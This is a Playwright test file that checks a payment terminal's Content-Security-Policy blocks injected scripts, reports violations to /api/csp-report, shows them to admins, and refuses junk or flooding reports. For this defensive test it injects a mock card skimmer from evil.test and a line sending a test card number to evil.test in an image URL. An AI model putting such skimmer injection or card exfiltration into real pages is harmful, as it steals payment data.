// The terminal is a payment page (PCI DSS 11.6.1): a script slipped into it must be blocked by the
// Content-Security-Policy, reported by the browser to /api/csp-report, and shown to admins. The
// endpoint needs no session, so junk and floods are refused and never grow the table without bound.
import type { Page } from "@playwright/test";
import { expect, test } from "../support/fixtures";
import { signIn } from "../support/auth";
import { query } from "../support/db";

const SOURCE = "csp:127.0.0.1";

test.beforeEach(async () => {
  await query(`DELETE FROM "CspReport"`);
  await query(`DELETE FROM "RateLimit" WHERE key = $1`, [SOURCE]);
});
test.afterAll(async () => {
  await query(`DELETE FROM "RateLimit" WHERE key = $1`, [SOURCE]);
});

/** The terminal page as a tampered server or a stored script injection would deliver it, CSP header and all. */
async function tamperWithTerminal(page: Page): Promise<void> {
  await page.route("**/terminal", async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace("</head>", `<script src="https://evil.test/skimmer.js"></script><script>window.skimmed = true</script></head>`);
    await route.fulfill({ response, body: html });
  });
}

const reports = () => query<{ directive: string; blockedUri: string; documentUri: string; count: number }>(`SELECT directive, "blockedUri", "documentUri", count FROM "CspReport" ORDER BY directive, "blockedUri"`);

test("a script slipped into the terminal is blocked, reported by the browser and listed for admins", async ({ page, allowConsoleError }) => {
  // The browser logs each refusal this test provokes.
  allowConsoleError(/Content Security Policy/);
  await signIn(page, "admin");
  await page.goto("/admin/security");
  await expect(page.getByText("No browser has reported a blocked script or resource.")).toBeVisible();
  await page.getByRole("navigation", { name: "Administration" }).getByRole("link", { name: "Security reports" }).click();
  await expect(page).toHaveURL(/\/admin\/security$/);

  await tamperWithTerminal(page);
  await page.goto("/terminal");
  await expect(page.getByRole("heading", { name: "Terminal", exact: true })).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { skimmed?: boolean }).skimmed)).toBeUndefined();
  // What a skimmer that did run would do with a card number: send it away in an image URL.
  await page.evaluate(() => {
    new Image().src = "https://evil.test/c.gif?pan=4111111111111111";
  });

  await expect
    .poll(async () => (await reports()).map((r) => `${r.directive} ${r.blockedUri}`), { timeout: 20_000 })
    .toEqual(expect.arrayContaining(["script-src-elem https://evil.test/skimmer.js", "script-src-elem inline", "img-src https://evil.test/c.gif"]));
  const stored = await reports();
  expect(JSON.stringify(stored)).not.toContain("4111111111111111");
  for (const r of stored) expect(r.documentUri).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/terminal$/);

  // Loaded again: counted on the same rows, not new ones.
  await page.goto("/terminal");
  await expect.poll(async () => (await reports()).find((r) => r.blockedUri === "https://evil.test/skimmer.js")?.count, { timeout: 20_000 }).toBe(2);
  expect((await reports()).length).toBe(stored.length);

  await page.unroute("**/terminal");
  await page.goto("/admin/security");
  const table = page.getByRole("table", { name: "Content-Security-Policy reports" });
  const row = table.getByRole("row").filter({ hasText: "https://evil.test/skimmer.js" });
  await expect(row).toContainText("script-src-elem");
  await expect(row).toContainText("/terminal");
  await expect(row.getByRole("cell").nth(3)).toHaveText("2");
  await expect(table).toContainText("https://evil.test/c.gif");
  await expect(table).not.toContainText("4111111111111111");
});

test("a Reporting API batch (what browsers send behind TLS, report-to) is stored like a report-uri report", async ({ request }) => {
  const batch = [
    { type: "csp-violation", url: "https://pay.example.com/terminal", body: { documentURL: "https://pay.example.com/terminal", blockedURL: "https://evil.test/skimmer.js", effectiveDirective: "script-src-elem" } },
    { type: "deprecation", url: "https://pay.example.com/terminal", body: { id: "x" } },
  ];
  const res = await request.post("/api/csp-report", { data: JSON.stringify(batch), headers: { "content-type": "application/reports+json" } });
  expect(res.status()).toBe(204);
  expect(await reports()).toEqual([{ directive: "script-src-elem", blockedUri: "https://evil.test/skimmer.js", documentUri: "https://pay.example.com/terminal", count: 1 }]);
});

test("junk, oversized and flooding posts are refused (400/413/415/429) and add no rows", async ({ request }) => {
  const post = (body: string, type = "application/csp-report") => request.post("/api/csp-report", { data: body, headers: { "content-type": type } });
  const report = (i: number) => JSON.stringify({ "csp-report": { "document-uri": "http://127.0.0.1/terminal", "blocked-uri": `https://flood${i}.test/x.js`, "effective-directive": "script-src-elem" } });

  expect((await post("x".repeat(17 * 1024))).status()).toBe(413);
  expect((await request.post("/api/csp-report", { data: "x".repeat(4 * 1024 * 1024), headers: { "content-type": "application/reports+json" } })).status()).toBe(413);
  expect((await post(report(0), "text/plain")).status()).toBe(415);
  expect((await post("{not json")).status()).toBe(400);
  expect((await post(JSON.stringify({ hello: "world" }))).status()).toBe(400);
  expect(await reports()).toEqual([]);

  // One source posting new kinds of report as fast as it can: cut off at the limit.
  const statuses: number[] = [];
  for (let i = 1; i <= 110; i++) statuses.push((await post(report(i))).status());
  const accepted = statuses.filter((s) => s === 204).length;
  expect(accepted).toBeLessThan(100);
  expect(statuses.slice(-10)).toEqual(Array(10).fill(429));
  expect((await reports()).length).toBe(accepted);
});
